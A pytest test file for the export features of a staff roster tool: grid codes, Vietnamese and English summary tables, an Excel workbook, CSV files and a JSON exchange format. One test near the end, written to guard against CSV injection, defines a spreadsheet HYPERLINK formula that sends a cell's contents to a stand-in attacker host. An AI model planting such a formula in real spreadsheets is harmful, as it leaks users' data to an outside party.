"""Exports from a hand-built roster: grid codes, summary tables, workbook, CSV files, the
exchange format and the all-or-nothing write."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from roster import export, outputs
from roster.model import (
    Absence,
    Assignment,
    RapidTest,
    Report,
    Roster,
    SolveResult,
    Status,
)
from roster.schema import RosterFile, SolveSummary, parse
from roster.validation import check
from tests.cli.offices import MONDAY, tiny_office


def day(n: int) -> dt.date:
    return MONDAY + dt.timedelta(days=n)


@pytest.fixture
def problem():
    p = tiny_office(days=7)
    p.absences = [Absence(staff="s8", start=day(0), end=day(1))]
    return p


@pytest.fixture
def roster() -> Roster:
    """Team A (s1, s2, s5) on Mon/Wed/Fri, team B (s3, s4, s6) on Tue/Thu."""
    a: list[Assignment] = []
    tests: list[RapidTest] = []
    for d in range(5):
        land, it, general = ("s1", "s2", "s5") if d % 2 == 0 else ("s3", "s4", "s6")
        for shift in ("AM", "PM"):
            a.append(Assignment(staff=land, date=day(d), shift=shift, post="land"))
        if d in (0, 2, 4):
            a.append(Assignment(staff=it, date=day(d), shift="AM", post="it"))
        else:
            a.append(Assignment(staff=it, date=day(d), shift="AM"))
        a.append(Assignment(staff=general, date=day(d), shift="PM"))
        if d < 2:
            tests += [RapidTest(staff=s, date=day(d)) for s in (land, it, general)]
    return Roster(
        assignments=a,
        tests=tests,
        teams={"s1": 0, "s2": 0, "s5": 0, "s7": 0, "s3": 1, "s4": 1, "s6": 1, "s8": 1},
    )


def test_post_codes() -> None:
    assert export.post_codes(tiny_office()) == {"land": "C1", "it": "T1"}


def test_cells_and_codes(problem, roster) -> None:
    v = export.RosterView(problem, roster)
    assert v.code(v.cell("s1", 0, "AM")) == "C1"
    assert v.code(v.cell("s5", 0, "PM")) == "G"
    assert v.code(v.cell("s7", 0, "AM")) == "R"
    assert v.code(v.cell("s8", 0, "AM")) == "-"  # on leave
    assert v.code(v.cell("s7", 5, "AM")) == "-"  # Saturday: closed
    cells = v.cells("s5", [0])
    assert v.code(cells[(0, "PM")]) == "G+T"  # the test sits on the on-site shift
    assert v.code(cells[(0, "AM")]) == "R"


def test_summary_tables(problem, roster) -> None:
    report = check(problem, roster)
    tables = {t.key: t for t in export.summary_tables(problem, roster)}
    head = tables["headcount"]
    assert head.columns == ["Shift", "HC", "On site"]
    assert head.rows[0] == ["Mon 13 Dec morning", "2/4", 2]
    cov = tables["coverage"]
    assert cov.columns == ["Shift", "C1", "T1"]
    assert cov.rows[0] == ["Mon 13 Dec morning", "1/1", "1/1"]
    assert cov.rows[1] == ["Mon 13 Dec afternoon", "1/1", "."]
    tests = tables["tests"]
    assert tests.rows[0] == ["Mon 13 Dec", 3, 10, 3] and tests.rows[-1][:2] == ["Total", 6]
    units = tables["units"]
    assert units.rows == [["Hành chính", 8, 0, 3, 1.9, 2.5]]
    pen = tables["penalties"]
    assert pen.rows[-1][0] == "Total" and pen.rows[-1][3] == report.objective - 0


def test_vietnamese_labels(problem, roster) -> None:
    tables = export.summary_tables(problem, roster, lang="vi")
    assert tables[0].title.startswith("Số cán bộ làm việc trực tiếp tại cơ quan mỗi ca")
    assert tables[0].rows[0][0] == "T2 13/12 ca sáng"
    assert "Q1 Đăng ký đất đai" in tables[1].notes[0]
    assert tables[1].columns == ["Ca làm việc", "Q1", "NV1"]
    # rule ids are for policy.yaml: the Vietnamese penalties table names rules only in words
    pen = tables[-1]
    assert pen.columns == ["Nội dung", "Số lần", "Điểm trừ"]
    assert all("." not in str(r[0]) for r in pen.rows) and pen.rows[-1][0] == "Tổng"


def test_codes_never_read_as_a_weekday_a_shift_or_a_team(problem, roster) -> None:
    """In Vietnamese T2 is Thứ Hai and C is Chiều: posts are Q1.. and NV1..; in English the
    shift headings are never one letter (A would read as team A)."""
    vi = export.text_grid(export.RosterView(problem, roster, "vi"))
    header = vi.splitlines()[1:3]
    assert "T2 13/12" in header[0] and "Sáng" not in header[0]
    cells = vi.splitlines()[4:12]
    assert all(" T2" not in line and " C1" not in line for line in cells)
    assert any("Q1+T" in line for line in cells) and any("Nhà" in line for line in cells)
    assert "CQ Trực tiếp tại cơ quan, công việc chung" in vi and "Nhà Làm việc tại nhà" in vi
    en = export.text_grid(export.RosterView(problem, roster, "en"))
    shift_heads = en.splitlines()[2].split()[5:]
    assert set(shift_heads) == {"AM", "PM"}


def test_format_table_aligns_and_truncates() -> None:
    table = export.Table("x", "Title", ["Name", "n", "wide"], [["a", 1, "x" * 50], ["bb", 22, "y"]])
    text = export.format_table(table, max_width=20)
    lines = text.splitlines()
    assert lines[0] == "Title"
    assert lines[1] == "Name   n" and lines[3] == "a      1" and lines[4] == "bb    22"
    assert lines[-1] == "... and 1 more columns"
    assert export.format_table(table, max_rows=1).splitlines()[-1] == "... and 1 more rows"


def test_text_grid_is_cut_politely(problem, roster) -> None:
    v = export.RosterView(problem, roster)
    text = export.text_grid(v, max_people=3, max_days=2)
    assert "Mon 13 Dec" in text and "Tue 14 Dec" in text and "Wed 15 Dec" not in text
    assert (
        "(showing the first 3 of 8 people and the first 2 of 5 open days; the full grid "
        "is in roster.xlsx)" in text
    )
    assert "s1        Nguyễn Thị Hồng  HC    A     C1+T C1" in text


def test_workbook(tmp_path: Path, problem, roster) -> None:
    path = tmp_path / "r.xlsx"
    export.write_xlsx(path, problem, roster)
    wb = openpyxl.load_workbook(path)
    ws = wb["Roster"]
    assert ws.freeze_panes == "E3"
    assert [ws.cell(row=1, column=i).value for i in range(1, 6)] == [
        "Staff ID",
        "Name",
        "Unit",
        "Team",
        "Mon 13 Dec",
    ]
    assert ws["F2"].value == "afternoon"
    assert ws["A3"].value == "s1" and ws["B3"].value == "Nguyễn Thị Hồng"
    assert ws["E3"].value == "C1+T" and ws["E3"].fill.start_color.rgb.endswith("C6EFCE")
    assert ws["E3"].font.bold
    s7 = next(r for r in range(3, 11) if ws.cell(row=r, column=1).value == "s7")
    assert ws.cell(row=s7, column=5).value == "R"
    assert ws.cell(row=s7, column=5).fill.start_color.rgb.endswith("FFF2CC")
    assert ws.cell(row=s7, column=15).fill.start_color.rgb.endswith("D9D9D9")  # Saturday
    legend = [c.value for c in ws["B"]]
    assert "On site, general office work" in legend and "Land registration" in legend
    assert wb.sheetnames == [
        "Roster",
        "Headcount",
        "Coverage",
        "Tests",
        "On-site days",
        "People",
        "Penalties",
    ]
    people = pd.read_excel(path, sheet_name="People", header=1)
    assert list(people.columns[:2]) == ["Staff ID", "Name"]
    assert people.set_index("Staff ID").loc["s1", "On-site shifts"] == 6


def test_roster_csv_one_row_per_person_per_slot(tmp_path: Path, problem, roster) -> None:
    path = tmp_path / "r.csv"
    export.write_roster_csv(path, problem, roster)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 8 * 7 * 2
    first = rows[0]
    assert first == {
        "staff_id": "s1",
        "name": "Nguyễn Thị Hồng",
        "unit": "HC",
        "team": "A",
        "date": "2021-12-13",
        "shift": "AM",
        "mode": "on_site",
        "post": "land",
    }
    s8 = [r for r in rows if r["staff_id"] == "s8" and r["date"] == "2021-12-13"]
    assert {r["mode"] for r in s8} == {"off"}
    assert sum(r["mode"] == "on_site" for r in rows) == len(roster.assignments)


def test_tests_csv(tmp_path: Path, problem, roster) -> None:
    path = tmp_path / "t.csv"
    export.write_tests_csv(path, problem, roster)
    df = pd.read_csv(path, encoding="utf-8-sig")
    assert list(df.columns) == ["staff_id", "name", "date"]
    assert len(df) == 6 and "Hoàng Minh Châu" in set(df["name"])


def test_write_outputs_and_exchange_format(tmp_path: Path, problem, roster) -> None:
    report = check(problem, roster)
    result = SolveResult(
        status=Status.feasible,
        roster=roster,
        objective=report.objective,
        bound=0,
        gap=1.0,
        wall_time=1.5,
    )
    paths = outputs.write_outputs(
        tmp_path / "out", problem, roster, result=result, report=report, scenario="tiny"
    )
    assert [p.name for p in paths] == [*outputs.OUTPUT_FILES, "calendars"]
    assert len(list((tmp_path / "out" / "calendars").glob("*.ics"))) == len(problem.staff)
    doc = json.loads((tmp_path / "out" / "roster.json").read_text("utf-8"))
    assert doc["format"] == "office-roster/roster" and doc["version"] == 1
    assert doc["problem"]["scenario"] == "tiny" and doc["problem"]["days"] == 7
    assert "roster" not in doc["result"] and doc["result"]["status"] == "feasible"
    assert doc["report"]["objective"] == report.objective
    back = RosterFile.model_validate(doc)
    assert back.roster == roster
    assert "Nguyễn" in (tmp_path / "out" / "roster.json").read_text("utf-8")  # not \\u-escaped


def test_write_outputs_is_all_or_nothing(
    tmp_path: Path, problem, roster, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "roster.csv").write_text("old", encoding="utf-8")

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(outputs, "write_tests_csv", broken)
    result = SolveResult(status=Status.optimal, roster=roster, objective=0)
    with pytest.raises(OSError):
        outputs.write_outputs(out, problem, roster, result=result, report=Report())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # no temp folder left
    assert [p.name for p in out.iterdir()] == ["roster.csv"]
    assert (out / "roster.csv").read_text("utf-8") == "old"


def test_result_summary_round_trips_without_the_roster() -> None:
    result = SolveResult(
        status=Status.feasible, objective=7, bound=5, gap=2 / 7, roster=Roster(), messages=["x"]
    )
    summary = result.summary()
    assert type(summary) is SolveSummary
    assert summary.model_dump() == result.model_dump(exclude={"roster"})


def test_parse_accepts_a_bare_roster(roster) -> None:
    doc = parse(json.loads(roster.model_dump_json()))
    assert doc.roster == roster and doc.result is None


def test_sheet_notes_explain_short_headings(tmp_path: Path, problem, roster) -> None:
    path = tmp_path / "r.xlsx"
    export.write_xlsx(path, problem, roster)
    ws = openpyxl.load_workbook(path)["Headcount"]
    assert ws["B2"].value == "HC"
    assert "HC Hành chính" in [c.value for c in ws["A"]]


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("first", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_formula_like_names_are_neutralised(tmp_path: Path, problem, roster, first) -> None:
    """OWASP CSV injection: a name starting with = + - @ tab or CR never reaches a spreadsheet
    as a formula: CSV cells get a leading apostrophe, XLSX cells are text with the quote
    prefix (no <f> element anywhere in the workbook)."""
    import zipfile

    name = first + PAYLOAD
    victim = problem.staff[0].id
    problem.staff[0].name = name
    roster.tests.append(RapidTest(staff=victim, date=day(6)))
    export.write_roster_csv(tmp_path / "roster.csv", problem, roster)
    export.write_tests_csv(tmp_path / "tests.csv", problem, roster)
    for f in ("roster.csv", "tests.csv"):
        with open(tmp_path / f, encoding="utf-8-sig", newline="") as fh:
            names = [r["name"] for r in csv.DictReader(fh) if r["staff_id"] == victim]
        assert names and all(n == "'" + name for n in names), (f, names[:1])
    export.write_xlsx(tmp_path / "roster.xlsx", problem, roster)
    with zipfile.ZipFile(tmp_path / "roster.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
    wb = openpyxl.load_workbook(tmp_path / "roster.xlsx")
    found = [
        c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.endswith(PAYLOAD)  # XML turns CR into LF
    ]
    assert len(found) >= 2  # the Roster grid and the People sheet
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


def test_harmless_text_is_left_alone(tmp_path: Path, problem, roster) -> None:
    problem.staff[0].name = "Nguyễn Văn An = tổ trưởng"
    export.write_roster_csv(tmp_path / "roster.csv", problem, roster)
    text = (tmp_path / "roster.csv").read_text(encoding="utf-8-sig")
    assert "Nguyễn Văn An = tổ trưởng" in text and "'Nguyễn" not in text


def test_remote_duties_show_in_the_grid_csv_and_calendar(tmp_path: Path) -> None:
    from roster.ical import person_calendar
    from roster.model import Demand, Post, RemoteDuty, Roster
    from tests.helpers import tiny_problem

    posts = [
        Post(id="C", demands=[Demand(shifts=["AM"])]),
        Post(id="hotline", name="Hotline", kind="remote", demands=[Demand(shifts=["AM"])]),
    ]
    p = tiny_problem(days=1, posts=posts)
    day = p.horizon.start
    roster = Roster(
        remote_duties=[RemoteDuty(staff="s1", date=day, shift="AM", post="hotline")],
        assignments=[Assignment(staff="s0", date=day, shift="AM", post="C")],
    )
    v = export.RosterView(p, roster)
    cell = v.cell("s1", 0, "AM")
    assert (cell.mode, cell.post, v.code(cell)) == ("remote", "hotline", "H1")
    assert v.code(v.cell("s2", 0, "AM")) == "R"
    export.write_roster_csv(tmp_path / "roster.csv", p, roster)
    rows = list(csv.DictReader((tmp_path / "roster.csv").open(encoding="utf-8-sig")))
    mine = [r for r in rows if r["staff_id"] == "s1" and r["shift"] == "AM"]
    assert [(r["mode"], r["post"]) for r in mine] == [("remote", "hotline")]
    ics = person_calendar(p, roster, "s1").decode()
    assert "SUMMARY:Duty from home: Hotline (Morning)" in ics and "REMOTE-DUTY" in ics
